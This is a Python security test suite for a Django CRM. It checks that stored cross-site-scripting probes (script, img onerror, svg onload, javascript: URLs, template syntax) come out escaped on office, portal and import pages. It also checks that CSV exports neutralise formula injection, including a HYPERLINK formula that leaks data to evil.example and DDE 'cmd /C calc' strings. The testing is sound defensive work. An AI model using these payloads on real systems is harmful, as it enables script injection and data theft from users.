"""Stored XSS: "payloads in every text field, created through the API, come out escaped in pages,
emails and (later) PDFs".

How this suite works
--------------------
`world` types a different payload into every free-text field Crewdesk has, through the API with
the owner's bearer token wherever the API can (clients, contacts, tags, reminders, notices,
notes). What the API cannot create is made the way a person would, and the fixture says so at
each place: the company name (company settings page), a team member (invitation page, which also
sends an email), a note's file (profile page upload), a CSV import (import pages), a brand and a
portal user's name (no page, API or service edits them yet: written with the ORM).

`world` is built once for the module (some 20 API calls and pages) inside a transaction that is
rolled back at the end; each test runs in a savepoint of it, so what a test changes (a merge, an
import, a login) is undone before the next test. `owner` and `customer` are the world's.

Every payload carries its own marker (mostly its key in PAYLOADS, like "client.city"); a failure
lists the keys, naming the fields, and the test id names the page. Each page test renders one
page and checks:

- no payload comes out as markup (`<script>alert(...)`, `<img src=x onerror=...`, `<svg onload=`,
  a `<u>` or `<i>` element), and no attribute holds a `javascript:` URL;
- the payloads that page shows do come out, escaped (so a page showing nothing cannot pass);
- template syntax stays literal: `{{7*7}}{% now "Y" %}` is shown as typed, not as 49 and a year;
- the Content-Security-Policy still forbids inline scripts (the second line of defence).

The JSON API and CSV files are not HTML: there the text comes back exactly as typed (no double
escaping), and CSV cells a spreadsheet would run as a formula start with an apostrophe.

Left out on purpose, as they cannot hold a payload: `kind`, `client_type`, `preferred_contact`,
`language`, a contact's `role`, a note's `visibility` (fixed choices), phones (stored as E.164 or
refused) and `country` (two letters).

The invoice and batch documents (public page, email, PDF) are in test_xss_billing.py, with
the same payloads: the PDF's text holds them as typed and no markup ran.
"""

import csv
import io
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import timedelta

import pytest
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.http import HttpResponse
from django.test import Client as WebClient
from django.test import TestCase, override_settings
from django.urls import reverse
from django.utils.html import escape

from crewdesk.accounts.models import Invitation, Membership, User
from crewdesk.accounts.services import api_token_create
from crewdesk.clients.models import ClientImport, ImportStatus, NoteFile
from crewdesk.clients.views.merge import ROWS as MERGE_ROWS
from crewdesk.core.models import Brand
from crewdesk.core.roles import Role
from tests.factories import CompanyFactory, MembershipFactory, UserFactory, company_today

API = "/api/v1"


# --- the payloads ------------------------------------------------------------------------------


@dataclass(frozen=True)
class Payload:
    raw: str  # what is typed; the API and CSV files give it back as is
    markup: str  # what a page would hold if the text were not escaped
    marker: str  # unique: which field it was typed into

    @property
    def escaped(self) -> str:
        """How a page shows it (Django's escape of & < > " ')."""
        return escape(self.raw)


def script(m: str) -> Payload:
    return Payload(f'<script>alert("{m}")</script>', f'<script>alert("{m}")', m)


def img(m: str) -> Payload:
    """Breaks out of a double-quoted attribute."""
    return Payload(f'"><img src=x onerror=alert("{m}")>', f'<img src=x onerror=alert("{m}")', m)


def svg(m: str) -> Payload:
    """Breaks out of a single-quoted attribute."""
    return Payload(f"'><svg onload=alert('{m}')>", f"<svg onload=alert('{m}')", m)


def closing(m: str) -> Payload:
    """Breaks out of a <title> or a <textarea>, whose text is not parsed as markup."""
    return Payload(f'</title></textarea><script>alert("{m}")</script>', f'<script>alert("{m}")', m)


def template(m: str) -> Payload:
    """Template syntax: shown as typed, never run."""
    return Payload(f'{{{{7*7}}}}{{% now "Y" %}}<i>{m}</i>', f"<i>{m}</i>", m)


def js_url(m: str) -> Payload:
    """Harmless as text; dangerous as a link, which ATTRIBUTE_URL looks for on every page."""
    return Payload(f"javascript:alert('{m}')", f"javascript:alert('{m}')", m)


def short(m: str) -> Payload:
    """For fields of 20 characters (postal code) or 32 (phone)."""
    return Payload(f'"><u id={m}>', f"<u id={m}>", m)


def email(m: str) -> Payload:
    """A valid address: a quoted local part may hold < > ( ) ' / = (RFC 5321)."""
    return Payload(f"\"<script>alert('{m}')</script>\"@example.com", f"<script>alert('{m}')", m)


def email_svg(m: str) -> Payload:
    return Payload(f"\"'><svg/onload=alert('{m}')>\"@example.com", f"<svg/onload=alert('{m}')", m)


PAYLOADS = {
    # company settings page; the company name is on every page
    "company.name": svg("company.name"),
    # ORM: brands have no page, API or service to edit them yet
    "brand.name": img("brand.name"),
    "brand.phone": short("brand.ph"),
    "brand.email": email("brand.email"),
    "brand.street": script("brand.street"),
    "brand.city": template("brand.city"),
    # team invitation page (the API has no invite)
    "member.first_name": script("member.first_name"),
    "member.last_name": template("member.last_name"),
    "member.email": email_svg("member.email"),
    # ORM: no page or API sets a customer's name yet
    "customer.first_name": script("customer.first_name"),
    "customer.last_name": closing("customer.last_name"),
    # API: POST /clients (a person), then PATCH /clients/{id} for the tax id
    "client.first_name": closing("client.first_name"),
    "client.last_name": img("client.last_name"),
    "client.company_name": svg("client.company_name"),
    "client.billing_name": template("client.billing_name"),
    "client.email": email("client.email"),
    "client.lead_source": js_url("client.lead_source"),
    "client.notes": closing("client.notes"),
    "client.tax_id.before": template("client.tax_id.before"),  # replaced by the PATCH
    "client.tax_id": template("client.tax_id"),
    "client.street": script("client.street"),
    "client.street2": svg("client.street2"),
    "client.city": img("client.city"),
    "client.region": js_url("client.region"),
    "client.postal_code": short("pc"),
    "tag.created": script("tag.created"),  # POST /clients with tags
    "tag.added": template("tag.added"),  # POST /clients/{id}/tags
    # API: a company with the same email (a suspected duplicate), a subsidiary of and referred
    # by the person, with the brand
    "other.company_name": script("other.company_name"),
    "other.notes": img("other.notes"),
    "other.city": svg("other.city"),
    # API: POST /clients/{id}/contacts, then PATCH for the email
    "contact.first_name": script("contact.first_name"),
    "contact.last_name": svg("contact.last_name"),
    "contact.email": email_svg("contact.email"),
    # API: a reminder due today for the owner, one for the invited member; a notice; notes
    "reminder.mine": img("reminder.mine"),
    "reminder.member": svg("reminder.member"),
    "notice": template("notice"),
    "note.internal": closing("note.internal"),
    "note.customer": script("note.customer"),
    # profile page upload (the API attaches no files); a file name holds no / and no "
    "note.file": Payload(
        "'><img src=x onerror=alert(note_file)>.txt",
        "<img src=x onerror=alert(note_file)",
        "note_file",
    ),
    # typed on a page and shown back at once
    "search": Payload(
        "<details open ontoggle=confirm(document.domain)>", "<details open ontoggle=", "ontoggle"
    ),
    "tag.page": img("tag.page"),
    "typed.phone": short("typed.ph"),
    # CSV import through the pages (csv_import)
    "import.file": Payload(
        "'><svg onload=alert(import_file)>.csv", "<svg onload=alert(import_file)", "import_file"
    ),
    "import.header": script("import.header"),
    "import.first_name": closing("imp.first"),  # the mapping page cuts samples at 60
    "import.last_name": img("import.last_name"),
    "import.city": svg("import.city"),
    "import.extra": template("import.extra"),
    "import.bad_name": script("import.bad_name"),
    "import.bad_email": img("import.bad_email"),
    # the browser a portal user logs in with, listed on "My sessions"
    "user_agent": Payload(
        'Mozilla/5.0 <script>alert("user_agent")</script>',
        '<script>alert("user_agent")',
        "user_agent",
    ),
}

# An attribute holding a javascript: URL runs it, entity-escaped or not.
ATTRIBUTE_URL = re.compile(
    r"""\b(?:href|src|action|formaction|xlink:href)\s*=\s*["']?\s*javascript:""", re.IGNORECASE
)


def raw(key: str) -> str:
    return PAYLOADS[key].raw


def page_text(response: HttpResponse) -> str:
    if response.streaming:
        return b"".join(response.streaming_content).decode()
    return response.content.decode()


def assert_escaped(response: HttpResponse, shows: tuple[str, ...] = ()) -> str:
    """No payload is markup or a link; the ones the page shows are there, escaped."""
    html = page_text(response)
    leaked = [key for key, payload in PAYLOADS.items() if payload.markup in html]
    assert not leaked, f"shown as markup, not as text: {leaked}"
    links = ATTRIBUTE_URL.findall(html)
    assert not links, f"javascript: URL in an attribute: {links}"
    missing = [key for key in shows if PAYLOADS[key].escaped not in html]
    assert not missing, f"not shown (escaped) where expected: {missing}"
    policy = response.headers.get("Content-Security-Policy", "")
    script_src = re.search(r"script-src ([^;]*)", policy)
    assert script_src and "'unsafe-inline'" not in script_src.group(1), policy
    return html


# --- the world ---------------------------------------------------------------------------------


@dataclass
class World:
    owner: Membership
    customer: Membership  # the portal user, logged in as the person
    client_id: int  # the person with a payload in every field
    other_id: int  # the company that looks like it
    contact_id: int
    member_id: int  # the invited team member's membership
    reminder_id: int  # the owner's reminder, due today
    emails: list  # what was sent while building it (the invitation)


def _created(response: HttpResponse, status: int = 201) -> dict:
    """An API answer that took the payload."""
    assert response.status_code == status, response.content
    return response.json()


def _redirected(response: HttpResponse) -> None:
    """A page form that took the payload (and redirects)."""
    assert response.status_code == 302, page_text(response)[:3000]


def _build_world() -> World:
    company = CompanyFactory(name="Acme Cleaning", slug="xss-acme")
    owner = MembershipFactory(company=company, role=Role.OWNER, user=UserFactory(username="olga"))
    customer = MembershipFactory(
        company=company, role=Role.CUSTOMER, user=UserFactory(username="cody")
    )
    web = WebClient()
    web.force_login(owner.user)
    session = web.session
    session["company_id"] = company.pk
    session.save()
    bearer = {"Authorization": f"Bearer {api_token_create(membership=owner).raw}"}

    def post(path: str, data: dict) -> HttpResponse:
        return web.post(path, data, content_type="application/json", headers=bearer)

    def patch(path: str, data: dict) -> HttpResponse:
        return web.patch(path, data, content_type="application/json", headers=bearer)

    # The company name: through the company settings page.
    company_settings = {
        "name": raw("company.name"),
        "currency": "USD",
        "timezone": "America/Chicago",
        "country": "US",
        "default_tax_rate": "0",
        "card_fee_percent": "0",
        "invoice_prefix": "",
    }
    _redirected(web.post(reverse("core:company_settings"), company_settings))
    # A brand: no page, API or service edits brands yet.
    brand = Brand.objects.create(
        company=company,
        name=raw("brand.name"),
        phone=raw("brand.phone"),
        email=raw("brand.email"),
        street=raw("brand.street"),
        city=raw("brand.city"),
        is_default=True,
    )
    # A team member: through the invitation page. Its email is sent on commit.
    invite = {
        "username": "erin",
        "email": raw("member.email"),
        "first_name": raw("member.first_name"),
        "last_name": raw("member.last_name"),
        "role": "office",
    }
    mail.outbox = []
    with TestCase.captureOnCommitCallbacks(execute=True):
        _redirected(web.post(reverse("accounts:team_invite"), invite))
    # Erin joins when she accepts, after logging in.
    invitation = Invitation.objects.get(company=company, username="erin")
    invitee = WebClient()
    invitee.force_login(invitation.user)
    answer = {"invitation": invitation.pk, "answer": "accept"}
    _redirected(invitee.post(reverse("accounts:invitations"), answer))
    member = Membership.objects.get(company=company, user__username="erin")
    # The portal user's name: nothing but the ORM sets it yet.
    User.objects.filter(pk=customer.user_id).update(
        first_name=raw("customer.first_name"), last_name=raw("customer.last_name")
    )

    # The person, through the API. DE: no postal code rule applies there.
    fields = ("first_name", "last_name", "company_name", "billing_name", "email", "lead_source")
    fields += ("notes", "street", "street2", "city", "region", "postal_code")
    person = {name: raw(f"client.{name}") for name in fields}
    person |= {"tax_id": raw("client.tax_id.before"), "country": "DE"}
    person["tags"] = [raw("tag.created")]
    client_id = _created(post(f"{API}/clients", person))["id"]
    _created(patch(f"{API}/clients/{client_id}", {"tax_id": raw("client.tax_id")}), 200)
    _created(post(f"{API}/clients/{client_id}/tags", {"name": raw("tag.added")}))
    look_alike = {
        "kind": "company",
        "company_name": raw("other.company_name"),
        "notes": raw("other.notes"),
        "city": raw("other.city"),
        "email": raw("client.email"),
        "parent": client_id,
        "referred_by": client_id,
        "brand": brand.pk,
        "allow_duplicate": True,
    }
    other_id = _created(post(f"{API}/clients", look_alike))["id"]
    contact = {"first_name": raw("contact.first_name"), "last_name": raw("contact.last_name")}
    contact_id = _created(post(f"{API}/clients/{client_id}/contacts", contact))["id"]
    contact_url = f"{API}/clients/{client_id}/contacts/{contact_id}"
    _created(patch(contact_url, {"email": raw("contact.email")}), 200)
    today = company_today(owner)
    mine = {"text": raw("reminder.mine"), "due_on": today.isoformat()}
    reminder_id = _created(post(f"{API}/clients/{client_id}/reminders", mine))["id"]
    for_member = {
        "text": raw("reminder.member"),
        "due_on": (today + timedelta(days=1)).isoformat(),
        "assignee": member.user_id,
    }
    _created(post(f"{API}/clients/{client_id}/reminders", for_member))
    _created(post(f"{API}/clients/{client_id}/notices", {"text": raw("notice")}))
    for key, visibility in (("note.internal", "internal"), ("note.customer", "customer")):
        note = {"text": raw(key), "visibility": visibility}
        _created(post(f"{API}/clients/{client_id}/notes", note))
    # A note's file: only the profile page attaches files.
    upload = {
        "note-text": "",
        "note-visibility": "internal",
        "note-files": SimpleUploadedFile(raw("note.file"), b"%PDF-1.4 hello"),
    }
    _redirected(web.post(reverse("clients:note_new", args=[client_id]), upload))
    # The portal user logs in as the person (linked as seed_demo does: no page does it yet).
    Membership.objects.filter(pk=customer.pk).update(client_id=client_id)
    customer.refresh_from_db()
    return World(
        owner=owner,
        customer=customer,
        client_id=client_id,
        other_id=other_id,
        contact_id=contact_id,
        member_id=member.pk,
        reminder_id=reminder_id,
        emails=list(mail.outbox),
    )


@pytest.fixture(scope="module")
def world(django_db_setup, django_db_blocker, tmp_path_factory) -> Iterator[World]:
    """Built once for the module, in a transaction rolled back at its end. Every test runs in a
    savepoint of it (pytest-django's `db`, see _each_test_undone), so what a test changes (a
    merge, an import, a login) is undone before the next one."""
    with django_db_blocker.unblock():
        outer = transaction.atomic()
        outer.__enter__()
        try:
            with override_settings(MEDIA_ROOT=tmp_path_factory.mktemp("xss-media")):
                built = _build_world()
        except BaseException:
            transaction.set_rollback(True)
            outer.__exit__(None, None, None)
            raise
    yield built
    with django_db_blocker.unblock():
        transaction.set_rollback(True)
        outer.__exit__(None, None, None)


@pytest.fixture(autouse=True)
def _each_test_undone(world, db):
    """The world first, then the test's savepoint (db) inside its transaction."""


@pytest.fixture
def owner(world) -> Membership:
    return world.owner


@pytest.fixture
def customer(world) -> Membership:
    return world.customer


# --- the office pages --------------------------------------------------------------------------

CLIENT_FIELDS = tuple(
    f"client.{name}"
    for name in (
        "first_name",
        "last_name",
        "company_name",
        "billing_name",
        "email",
        "lead_source",
        "notes",
        "tax_id",
        "street",
        "street2",
        "city",
        "region",
        "postal_code",
    )
)
# The profile of a person shows every detail but the company name.
PROFILE_FIELDS = tuple(key for key in CLIENT_FIELDS if key != "client.company_name")
OTHER = ("other.company_name", "other.notes", "other.city")
CONTACT = ("contact.first_name", "contact.last_name", "contact.email")
# A note file's name is made safe when it is stored, like a job file's: never shown as typed.
NOTES = ("note.internal", "note.customer")
ACTIVITY = (
    "client.first_name",
    "client.tax_id.before",  # the change history, before and after
    "client.tax_id",
    "tag.added",
    "contact.first_name",
    "reminder.mine",
    "notice",
)


@dataclass(frozen=True)
class Page:
    name: str  # the test id
    fetch: Callable[[WebClient, World], HttpResponse]
    shows: tuple[str, ...]  # the payloads it must show, escaped

    def __str__(self) -> str:
        return self.name


def _get(name: str, *args: str, query: str = "", htmx: bool = False, **params) -> Callable:
    """GET a named URL. args name World attributes (the ids in the URL); a query parameter is
    a string, or a function of the World."""

    def fetch(web: WebClient, world: World) -> HttpResponse:
        url = reverse(name, args=[getattr(world, arg) for arg in args]) + query
        data = {k: v(world) if callable(v) else v for k, v in params.items()}
        return web.get(url, data, headers={"HX-Request": "true"} if htmx else {})

    return fetch


def _new_client_refused(web: WebClient, world: World) -> HttpResponse:
    """The new client form shown again with what was typed: the phone cannot be read."""
    typed = {key.removeprefix("client."): raw(key) for key in CLIENT_FIELDS}
    typed |= {"kind": "person", "country": "DE", "preferred_contact": "any", "language": "en"}
    typed |= {"phone_kind_0": "mobile", "phone_number_0": raw("typed.phone")}
    typed["tags"] = raw("tag.created")
    return web.post(reverse("clients:new"), typed)


def _duplicate_check(web: WebClient, world: World) -> HttpResponse:
    """The live duplicate panel of the client form, as htmx posts the form while one types."""
    typed = {"kind": "person", "first_name": raw("client.first_name"), "email": raw("client.email")}
    return web.post(reverse("clients:duplicate_check"), typed, headers={"HX-Request": "true"})


def _tag_added(web: WebClient, world: World) -> HttpResponse:
    """The tags panel htmx swaps in after a tag is typed on the profile."""
    url = reverse("clients:tag_add", args=[world.client_id])
    return web.post(url, {"tag-name": raw("tag.page")}, headers={"HX-Request": "true"})


def _reminder_done(web: WebClient, world: World) -> HttpResponse:
    """A plain form post: the next page says "Reminder done: <text>" in a flash message."""
    url = reverse("clients:reminder_done", args=[world.client_id, world.reminder_id])
    return web.post(url, follow=True)


def _merged(web: WebClient, world: World) -> HttpResponse:
    """Merge the company into the person, keeping the person's values: the next page says
    "Merged <company> into <person>." and its Activity tab names the merged client."""
    url = f"{reverse('clients:merge')}?ids={world.client_id}&ids={world.other_id}"
    keep = {f"choice_{row}": world.client_id for row in MERGE_ROWS}
    response = web.post(url, {"survivor": world.client_id, **keep})
    assert response.status_code == 302, page_text(response)[:3000]
    return web.get(f"{response.url}?tab=activity")


PAGES = [
    Page(
        "client list",
        _get("clients:list"),
        (
            "client.first_name",
            "client.last_name",
            "client.billing_name",
            "client.email",
            "client.city",
            "tag.created",
            "tag.added",
            "other.company_name",
            "other.city",
            "company.name",
        ),
    ),
    Page(
        "client list rows (htmx)",
        _get("clients:list", htmx=True),
        ("client.first_name", "client.email", "client.city", "tag.added", "other.company_name"),
    ),
    Page(
        "client list searched for a payload email",
        _get("clients:list", q=raw("client.email")),
        ("client.first_name", "client.email", "other.company_name"),
    ),
    Page(
        "client list searched for a payload that matches nothing",
        _get("clients:list", q=raw("search")),
        ("search",),
    ),
    Page(
        "client profile",
        _get("clients:detail", "client_id"),
        (
            *PROFILE_FIELDS,
            "tag.created",
            "tag.added",
            "notice",
            "reminder.mine",
            "reminder.member",
            "member.first_name",  # the reminder's assignee, and in the assignee choices
            "other.company_name",  # a subsidiary
            *CONTACT,  # the first tab
        ),
    ),
    Page(
        "client profile ?tab=contacts",
        _get("clients:detail", "client_id", query="?tab=contacts"),
        CONTACT,
    ),
    Page(
        "client profile ?tab=notes", _get("clients:detail", "client_id", query="?tab=notes"), NOTES
    ),
    Page(
        "client profile ?tab=activity",
        _get("clients:detail", "client_id", query="?tab=activity"),
        ACTIVITY,
    ),
    *(
        Page(
            f"client profile tab loaded later (htmx) ?panel={panel}",
            _get("clients:detail", "client_id", htmx=True, panel=panel),
            shows,
        )
        for panel, shows in (("contacts", CONTACT), ("notes", NOTES), ("activity", ACTIVITY))
    ),
    Page(
        "profile of the look-alike company",
        _get("clients:detail", "other_id"),
        (*OTHER, "client.first_name", "client.last_name"),  # its parent, referred by
    ),
    Page(
        "client edit form",
        _get("clients:edit", "client_id"),
        (*CLIENT_FIELDS, "tag.created", "tag.added", "brand.name"),
    ),
    Page(
        "edit form of the look-alike company",
        _get("clients:edit", "other_id"),
        (*OTHER, "client.first_name", "brand.name"),  # the client pickers, the brand choice
    ),
    Page(
        "new client form shown again with errors",
        _new_client_refused,
        (*CLIENT_FIELDS, "tag.created", "typed.phone"),
    ),
    Page(
        "contact edit form",
        _get("clients:contact_edit", "client_id", "contact_id"),
        (*CONTACT, "client.first_name"),
    ),
    Page(
        "duplicate check panel (htmx)",
        _duplicate_check,
        ("client.first_name", "client.email", "client.city", "other.company_name", "other.city"),
    ),
    Page(
        "client picker results (htmx)",
        _get("clients:lookup", field="parent", parent_search=raw("client.email")),
        ("client.first_name", "client.email", "client.city", "other.company_name"),
    ),
    Page(
        "client picker without results (htmx)",
        _get("clients:lookup", field="parent", parent_search=raw("search")),
        ("search",),
    ),
    Page(
        "client picker with a client chosen (htmx)",
        _get("clients:lookup", field="parent", choose=lambda world: world.client_id),
        ("client.first_name", "client.last_name"),
    ),
    Page("tags panel after adding a tag (htmx)", _tag_added, ("tag.page", "tag.created")),
    Page("flash message after marking a reminder done", _reminder_done, ("reminder.mine",)),
    Page(
        "merge page",
        lambda web, world: web.get(
            reverse("clients:merge"), {"ids": [world.client_id, world.other_id]}
        ),
        (*CLIENT_FIELDS, *OTHER, *CONTACT, "brand.name"),
    ),
    Page(
        "profile after a merge: flash message and activity",
        _merged,
        ("client.first_name", "other.company_name"),
    ),
    Page(
        "suspected duplicates",
        _get("clients:duplicates"),
        ("client.first_name", "client.email", "client.city", "client.region", "other.company_name"),
    ),
    Page(
        "data quality ?show=no_phone",
        _get("clients:quality", show="no_phone"),
        ("client.first_name", "client.last_name", "client.email", "other.company_name"),
    ),
    Page(
        "home page: due reminders and recent activity",
        _get("dashboard:home"),
        ("reminder.mine", "client.first_name", "notice", "company.name"),
    ),
    Page(
        "activity log",
        _get("core:activity"),
        (
            "client.first_name",
            "other.company_name",
            "tag.added",
            "contact.first_name",
            "reminder.mine",
            "reminder.member",
            "notice",
        ),
    ),
    Page(
        "team",
        _get("accounts:team"),
        ("member.first_name", "member.last_name", "member.email", "customer.first_name"),
    ),
    Page(
        "team member",
        _get("accounts:team_member", "member_id"),
        ("member.first_name", "member.last_name", "member.email"),
    ),
    Page("company settings", _get("core:company_settings"), ("company.name",)),
]


@pytest.mark.parametrize("page", PAGES, ids=str)
def test_office_page_shows_stored_text_escaped(page, world, client_as, owner):
    response = page.fetch(client_as(owner), world)
    assert response.status_code == 200
    assert_escaped(response, page.shows)


def test_a_note_file_is_downloaded_never_shown_as_a_page(world, client_as, owner):
    """An HTML file is refused; a PDF with markup inside is served as a PDF download that
    can run nothing."""
    web = client_as(owner)
    evil = SimpleUploadedFile("evil.html", b"<script>alert(1)</script>", content_type="text/html")
    upload = {"note-text": "", "note-visibility": "internal", "note-files": evil}
    assert web.post(reverse("clients:note_new", args=[world.client_id]), upload).status_code == 200
    assert not NoteFile.objects.filter(name__startswith="evil").exists()
    polyglot = b"%PDF-1.4 <script>alert(1)</script>"
    evil = SimpleUploadedFile("evil.html", polyglot, content_type="text/html")
    upload = {"note-text": "", "note-visibility": "internal", "note-files": evil}
    _redirected(web.post(reverse("clients:note_new", args=[world.client_id]), upload))
    stored = NoteFile.objects.get(name="evil.pdf")
    response = web.get(reverse("clients:note_file", args=[world.client_id, stored.pk]))
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "application/pdf"
    assert response.headers["Content-Disposition"].startswith("attachment")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Security-Policy"].startswith("sandbox")
    assert page_text(response) == polyglot.decode()  # read to the end: closes it


# --- the customer portal -----------------------------------------------------------------------
# It shows the customer's own name, their company's and its brand. Later issues add the client's
# jobs, invoices and payments: add their pages here.

PORTAL_PAGES = [
    Page(
        "portal home",
        _get("portal:home"),
        (
            "customer.first_name",
            "company.name",
            "brand.name",
            "brand.phone",
            "brand.email",
            "brand.street",
            "brand.city",
        ),
    ),
    Page("portal: my sessions", _get("accounts:sessions"), ("customer.first_name", "company.name")),
]


@pytest.mark.parametrize("page", PORTAL_PAGES, ids=str)
def test_portal_page_shows_stored_text_escaped(page, world, client_as, customer):
    response = page.fetch(client_as(customer), world)
    assert response.status_code == 200
    assert_escaped(response, page.shows)


def _last_code(address: str) -> str:
    from tests.accounts.test_login import last_code_for

    return last_code_for(address)  # the message log no longer holds it once sent


def test_my_sessions_shows_a_stored_user_agent_escaped(
    world, client, customer, django_capture_on_commit_callbacks
):
    """The browser's User-Agent header is stored at login and listed on "My sessions"."""
    client.logout()
    browser = {"User-Agent": raw("user_agent")}
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            reverse("accounts:login"), {"username": customer.user.username}, headers=browser
        )
    code = _last_code(customer.user.email)
    response = client.post(reverse("accounts:login_code"), {"code": code}, headers=browser)
    assert response.status_code == 302 and response.url == reverse("portal:home")
    sessions = client.get(reverse("accounts:sessions"), headers=browser)
    assert_escaped(sessions, ("user_agent", "customer.first_name"))


def test_the_login_page_shows_a_typed_username_escaped(client):
    client.post(reverse("accounts:login"), {"username": raw("search")})
    assert_escaped(client.get(reverse("accounts:login_code")), ("search",))


# --- the CSV import ----------------------------------------------------------------------------


@pytest.fixture
def csv_import(world, client_as, owner) -> ClientImport:
    """A CSV uploaded on the import page, with payloads in its file name, a column name and
    cells: one good row, one with errors, one duplicate of the person."""
    rows = [
        ["First Name", "Last Name", "Email", "City", raw("import.header")],
        [
            raw("import.first_name"),
            raw("import.last_name"),
            "good@example.com",
            raw("import.city"),
            raw("import.extra"),
        ],
        [raw("import.bad_name"), "", raw("import.bad_email"), "=1+2", ""],
        ["Dee", "Dupe", raw("client.email"), "", ""],
    ]
    text = io.StringIO()
    csv.writer(text).writerows(rows)
    upload = SimpleUploadedFile(raw("import.file"), text.getvalue().encode())
    _redirected(client_as(owner).post(reverse("clients:import"), {"file": upload}))
    return ClientImport.objects.get(company=owner.company)


def _import(web: WebClient, client_import: ClientImport, on_commit) -> None:
    """Check the rows (the preview does) and import them; the task runs on commit."""
    web.get(reverse("clients:import_preview", args=[client_import.pk]))
    with on_commit(execute=True):
        response = web.post(reverse("clients:import_start", args=[client_import.pk]))
    assert response.status_code == 302
    client_import.refresh_from_db()
    assert client_import.status == ImportStatus.DONE


def _import_page(name: str, with_id: bool = True) -> Callable:
    def fetch(web: WebClient, client_import: ClientImport) -> HttpResponse:
        return web.get(reverse(name, args=[client_import.pk] if with_id else []))

    return fetch


# (page, whether the rows are imported first)
IMPORT_PAGES = [
    (
        Page(
            "import: column mapping",
            _import_page("clients:import_mapping"),
            ("import.file", "import.header", "import.first_name", "import.city", "import.extra"),
        ),
        False,
    ),
    (
        Page(
            "import: preview of the rows",
            _import_page("clients:import_preview"),
            (
                "import.file",
                "import.bad_name",  # the row with errors, by its name and email
                "import.bad_email",
                "client.first_name",  # "Looks like <the person>" for the duplicate row
                "client.email",
            ),
        ),
        False,
    ),
    (Page("import: status", _import_page("clients:import_status"), ("import.file",)), True),
    (
        Page("import: recent imports", _import_page("clients:import", False), ("import.file",)),
        True,
    ),
    (
        Page(
            "activity log after an import", _import_page("core:activity", False), ("import.file",)
        ),
        True,
    ),
    (
        Page(
            "client list after an import",
            _import_page("clients:list", False),
            ("import.first_name", "import.last_name", "import.city"),
        ),
        True,
    ),
]


@pytest.mark.parametrize(
    ("page", "imported"), IMPORT_PAGES, ids=[str(page) for page, _imported in IMPORT_PAGES]
)
def test_import_page_shows_the_files_text_escaped(
    page, imported, csv_import, client_as, owner, django_capture_on_commit_callbacks
):
    web = client_as(owner)
    if imported:
        _import(web, csv_import, django_capture_on_commit_callbacks)
    response = page.fetch(web, csv_import)
    assert response.status_code == 200
    assert_escaped(response, page.shows)


# --- CSV files: text as typed, formulas neutralised (importing.csv_safe) -----------------------

FORMULAS = {
    "first_name": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "last_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "lead_source": "+cmd|' /C calc'!A0",
    "city": "-2+3+cmd|' /C calc'!A0",
    "email": "=cmd@example.com",
}


def _csv(response: HttpResponse) -> list[list[str]]:
    assert response.headers["Content-Type"].startswith("text/csv")
    assert response.headers["Content-Disposition"].startswith("attachment")
    return list(csv.reader(io.StringIO(page_text(response).removeprefix("\ufeff"))))


def _assert_no_formula(rows: list[list[str]]) -> None:
    live = [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]
    assert not live, f"cells a spreadsheet would run: {live}"


def test_the_csv_export_keeps_text_as_typed_and_neutralises_formulas(
    world, api_client, owner, client_as
):
    spreadsheet = _created(api_client(owner).post(f"{API}/clients", {**FORMULAS, "tags": ["=1+1"]}))
    rows = _csv(client_as(owner).get(reverse("clients:export")))
    _assert_no_formula(rows)
    by_id = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    person = by_id[str(world.client_id)]
    for header, key in (
        ("First name", "client.first_name"),
        ("Last name", "client.last_name"),
        ("Company name", "client.company_name"),
        ("Billing name", "client.billing_name"),
        ("Email", "client.email"),
        ("Street", "client.street"),
        ("City", "client.city"),
        ("Postal code", "client.postal_code"),
    ):
        assert person[header] == raw(key), header  # CSV is not HTML: no escaping
    assert person["Tags"] == ", ".join(sorted([raw("tag.added"), raw("tag.created")]))
    formulas = by_id[str(spreadsheet["id"])]
    assert formulas["First name"] == "'" + FORMULAS["first_name"]
    assert formulas["Lead source"] == "'" + FORMULAS["lead_source"]
    assert formulas["Tags"] == "'=1+1"


def test_the_import_report_keeps_text_as_typed_and_neutralises_formulas(
    csv_import, client_as, owner
):
    web = client_as(owner)
    web.get(reverse("clients:import_preview", args=[csv_import.pk]))  # checks the rows
    rows = _csv(web.get(reverse("clients:import_report", args=[csv_import.pk])))
    _assert_no_formula(rows)
    assert rows[0][4] == raw("import.header")
    rejected = next(row for row in rows if row[0] == raw("import.bad_name"))
    assert rejected[2] == raw("import.bad_email") and rejected[3] == "'=1+2"


# --- the JSON API: values come back as typed ---------------------------------------------------


def _json(response: HttpResponse):
    """JSON, never HTML-escaped, and not to be sniffed as HTML by a browser."""
    assert response.status_code == 200, response.content
    assert response.headers["Content-Type"].startswith("application/json")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    body = response.content.decode()
    assert "&lt;" not in body and "&quot;" not in body and "&#x27;" not in body
    return response.json()


def test_the_api_gives_back_every_value_as_typed(world, api_client, owner):
    api = api_client(owner)
    person = _json(api.get(f"{API}/clients/{world.client_id}"))
    for key in CLIENT_FIELDS:
        assert person[key.removeprefix("client.")] == raw(key), key
    assert sorted(person["tags"]) == sorted([raw("tag.created"), raw("tag.added")])
    assert person["display_name"] == f"{raw('client.first_name')} {raw('client.last_name')}"
    found = _json(api.get(f"{API}/clients", search=raw("client.email")))["items"]
    assert raw("other.company_name") in {c["display_name"] for c in found}

    contact = _json(api.get(f"{API}/clients/{world.client_id}/contacts"))["items"][0]
    assert [contact[f] for f in ("first_name", "last_name", "email")] == [raw(k) for k in CONTACT]
    notice = _json(api.get(f"{API}/clients/{world.client_id}/notices"))["items"][0]
    assert notice["text"] == raw("notice")
    reminders = _json(api.get(f"{API}/reminders"))["items"]  # the owner's own
    assert [reminder["text"] for reminder in reminders] == [raw("reminder.mine")]
    notes = _json(api.get(f"{API}/clients/{world.client_id}/notes"))["items"]
    assert {raw("note.internal"), raw("note.customer")} <= {note["text"] for note in notes}
    names = [file["name"] for note in notes for file in note["files"]]
    assert names == ["img_srcx_onerroralertnote_file.pdf"]  # made safe when it was stored
